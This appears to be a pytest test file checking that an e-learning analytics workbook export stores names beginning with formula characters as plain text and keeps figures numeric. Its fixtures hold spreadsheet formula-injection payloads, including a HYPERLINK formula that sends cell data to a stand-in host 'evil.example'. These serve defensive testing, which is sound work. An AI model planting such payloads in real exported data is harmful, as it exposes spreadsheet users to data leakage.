"""The analytics workbook (queued from the dashboard, downloaded from its export page), read back: member,
organisation and series names are inert text however they begin, and the figures stay numbers."""
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from elearn.extensions import db
from elearn.ledger import services as ledger

MEMBER = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
COUNTY = "@SUM(1+1)县委"
TOWN = "＝1+1镇党委"
BRANCH = "-2+3支部"
SERIES = "+1 学习专题"


@pytest.fixture
def tree(make_org, make_user, make_course, publish):
    county = make_org(COUNTY)
    town = make_org(TOWN, parent=county)
    branch = make_org(BRANCH, kind="branch", parent=town)
    member = make_user("member1", org=branch, name=MEMBER)
    ledger.credit(member, kind="lesson", source_kind="lesson", source_id=1, hours=12.5, title="第一讲",
                  category="political_theory", innovative_theory=True, credited_on=date(2025, 3, 1))
    db.session.commit()
    publish([make_course()], orgs=[(county, True)], title=SERIES)
    return {"county": county, "site": make_user("site", org=county, role="site_admin"), "member": member}


def download(client, auth, tree):
    auth.login("site")
    r = client.post(f"/analytics/exports?org={tree['county'].id}")
    assert r.status_code == 302
    status = client.get(r.headers["Location"] + "?format=json").get_json()
    assert status["status"] == "ready"
    r = client.get(status["download_url"])
    data = r.data
    r.close()
    return load_workbook(io.BytesIO(data))


def test_names_in_the_workbook_are_text_not_formulas(client, auth, tree):
    wb = download(client, auth, tree)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for name in (MEMBER, COUNTY, TOWN, BRANCH, SERIES):
        assert name in texts, name  # as it is, without an apostrophe added
        assert texts[name].data_type == "s" and texts[name].quotePrefix, name
    at_risk = list(wb.worksheets[-1].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in at_risk] == [MEMBER]


def test_figures_in_the_workbook_stay_numbers(client, auth, tree):
    wb = download(client, auth, tree)
    summary = list(wb.worksheets[0].iter_rows(values_only=True))[1]
    assert summary[0] == COUNTY and summary[1] == 1 and summary[7] == 12.5
    (at_risk,) = wb.worksheets[-1].iter_rows(min_row=2, values_only=True)
    assert at_risk[4] == 12.5 and isinstance(at_risk[7], float) and at_risk[7] > 0
